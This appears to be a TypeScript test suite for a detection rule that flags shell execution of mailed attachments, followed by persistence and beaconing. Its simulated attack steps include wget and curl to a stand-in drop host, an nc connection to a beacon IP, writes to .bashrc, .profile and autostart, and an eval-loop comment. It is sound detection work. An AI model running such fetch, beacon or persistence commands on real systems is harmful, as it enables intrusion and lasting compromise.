import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HOUR, HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { atMostAt, firesAt, inOrder, scanLog, storyOf } from './stories.test-support.ts';

/** A shell at which somebody types takes the lines of a file as its own. */

const BEACON = '203.0.113.67';
const HOME = '/home/clerk';

/** A shell of a clerk who has just saved an attachment under `name`. */
function saved(name: string, telemetry = {}) {
  const log = new HostLog(telemetry);
  const message = log.deliver();
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  const file = `${HOME}/${name}`;
  shell.run('/usr/bin/mutt').read(message.path).write(file);
  log.wait(10 * SECOND);
  return { log, shell, file };
}

for (const name of ['settings.env', 'settings', 'settings.sh'])
  test(`lines of ${name} that reach out from the shell that took them in are an attachment that runs`, async () => {
    const { log, shell, file } = saved(name);
    shell.read(file);
    shell.run('/usr/bin/wget -q http://drop.example.net/').connect(BEACON, 80);
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    inOrder(alert, [
      ['content.executed', file, 'bash'],
      ['network.connected', 'wget', BEACON],
    ]);
  });

test('lines that leave something behind by themselves are an attachment that runs', async () => {
  const { log, shell, file } = saved('settings.env');
  shell.read(file).write(`${HOME}/.profile`);
  inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [['persistence.written', '.profile']]);
});

test('lines go on while a program of theirs is at work', async () => {
  const { log, shell, file } = saved('settings.sh');
  shell.read(file);
  shell.run('/usr/bin/sleep 20');
  log.wait(20 * SECOND);
  shell.run('/usr/bin/curl http://drop.example.net/').connect(BEACON, 80);
  inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [['network.connected', 'curl', BEACON]]);
});

test('what is typed after lines that only set variables is its person’s', async () => {
  const { log, shell, file } = saved('settings.sh');
  shell.read(file);
  log.wait(4 * SECOND);
  shell.run('/usr/bin/curl https://work.example.org/').connect('203.0.113.30', 443);
  shell.write(`${HOME}/.profile`);
  const alerts = await scanLog(log);
  atMostAt(alerts, 'informational');
  assert.ok(!storyOf(alerts, 'AN0656').steps.some(step => step.kind === 'network.connected'));
});

test('what is typed after a program of such lines has ended is its person’s', async () => {
  const { log, shell, file } = saved('settings.sh');
  shell.read(file);
  shell.run('/usr/bin/date').exit();
  log.wait(4 * SECOND);
  shell.run('/usr/bin/curl https://work.example.org/').connect('203.0.113.30', 443);
  const alert = storyOf(await scanLog(log), 'AN0656');
  assert.ok(!alert.steps.some(step => step.kind === 'network.connected'));
});

test('a list that is gone through line by line is no program', async () => {
  const { log, shell, file } = saved('addresses.txt');
  shell.read(file);
  shell.run('/usr/bin/wget -q http://198.51.100.8/a').connect('198.51.100.8', 80);
  atMostAt(await scanLog(log), 'informational');
});

test('what a shell opens for a command is the command’s', async () => {
  const { log, shell, file } = saved('settings.env');
  shell.fork().read(file).exec('/usr/bin/wc -l');
  shell.run('/usr/bin/wget -q http://198.51.100.8/a').connect('198.51.100.8', 80);
  atMostAt(await scanLog(log), 'informational');
});

test('lines put into a file with which shells start run at the next login', async () => {
  const { log, shell, file } = saved('prompt');
  shell.run('/usr/bin/cat prompt').read(file).write(`${HOME}/.bashrc`);
  log.wait(12 * HOUR);
  const later = log.shell('clerk').read(`${HOME}/.bashrc`);
  later.run('/usr/bin/curl -s http://drop.example.net/').orphan().connect(BEACON, 80);
  inOrder(firesAt(await scanLog(log), 'AN0656', 'medium'), [
    ['file.written', '.bashrc'],
    ['content.executed', '.bashrc'],
  ]);
});

test('what a shell started in the background and pid 1 took over belongs to the lines', async () => {
  const { log, shell, file } = saved('prompt');
  shell.run('/usr/bin/cat prompt').read(file).write(`${HOME}/.bashrc`);
  log.wait(12 * HOUR);
  const later = log.shell('clerk').read(`${HOME}/.bashrc`);
  later.fork().orphan().exec('/usr/bin/curl -s http://drop.example.net/').connect(BEACON, 80);
  inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [['network.connected', 'curl', BEACON]]);
});

test('a login whose start file holds mailed lines does its person’s work', async () => {
  const { log, shell, file } = saved('aliases');
  shell.run('/usr/bin/cat aliases').read(file).write(`${HOME}/.bashrc`);
  log.wait(12 * HOUR);
  const later = log.shell('clerk').read(`${HOME}/.bashrc`);
  later.run('/usr/bin/dircolors -b');
  log.wait(5 * SECOND);
  later.run('/usr/bin/ssh files.example.org').connect('203.0.113.30', 22);
  atMostAt(await scanLog(log), 'informational');
});

test('the history of a shell is no program', async () => {
  const { log, shell, file } = saved('settings.env');
  shell.run('/usr/bin/cat settings.env').read(file).write(`${HOME}/.bash_history`);
  log.wait(HOUR);
  const later = log.shell('clerk').read(`${HOME}/.bash_history`);
  later.run('/usr/bin/ssh files.example.org').connect('203.0.113.30', 22);
  atMostAt(await scanLog(log), 'informational');
});

test('what a shell writes and reads again at once is its history, wherever that lies; what it wrote before is a file', async () => {
  const { log, shell, file } = saved('figures.txt');
  shell.read(file);
  const kept = `${HOME}/.bash_notes`;
  shell.write(kept).read(kept);
  assert.deepEqual(
    (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0656'),
    [],
  );
  const other = saved('figures.txt');
  other.shell.read(other.file);
  other.shell.write(`${HOME}/lines`);
  other.log.wait(SECOND);
  other.shell.read(`${HOME}/lines`);
  other.shell.run('/usr/bin/wget -q http://drop.example.net/').connect(BEACON, 80);
  firesAt(await scanLog(other.log), 'AN0656', 'medium');
});

/** `while read -r l; do eval "$l"; done < FILE` */
for (const name of ['checks.lst', 'checks.txt'])
  test(`a shell that opens ${name} and starts one program after the other, none twice, has its orders from there`, async () => {
    const { log, shell, file } = saved(name);
    shell.read(file);
    for (const program of ['df', 'id', 'hostname']) shell.run(`/usr/bin/${program}`);
    shell.run(`/usr/bin/nc -w 2 ${BEACON} 9001`).connect(BEACON, 9001);
    shell.write(`${HOME}/.config/autostart/c.desktop`);
    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
    inOrder(alert, [
      ['content.executed', file, 'bash'],
      ['network.connected', 'nc', BEACON],
      ['persistence.written', 'c.desktop'],
    ]);
  });

test('a loop over a list starts the same programs for each of its lines', async () => {
  const { log, shell, file } = saved('hosts.lst');
  shell.read(file);
  for (const host of ['a', 'b', 'c', 'd']) {
    shell.run(`/usr/bin/getent hosts ${host}`);
    shell.run(`/usr/bin/curl http://${host}.example.org/`).connect(BEACON, 80);
  }
  for (const program of ['sort', 'date', 'id', 'wc']) shell.run(`/usr/bin/${program}`);
  atMostAt(await scanLog(log), 'informational');
});

test('what is typed after a list was read is its person’s, however many programs it is', async () => {
  const { log, shell, file } = saved('hosts.lst');
  shell.read(file);
  for (const program of ['df', 'id', 'hostname', 'uptime']) {
    log.wait(SECOND);
    shell.run(`/usr/bin/${program}`);
  }
  shell.run('/usr/bin/curl https://work.example.org/').connect('203.0.113.30', 443);
  atMostAt(await scanLog(log), 'informational');
});
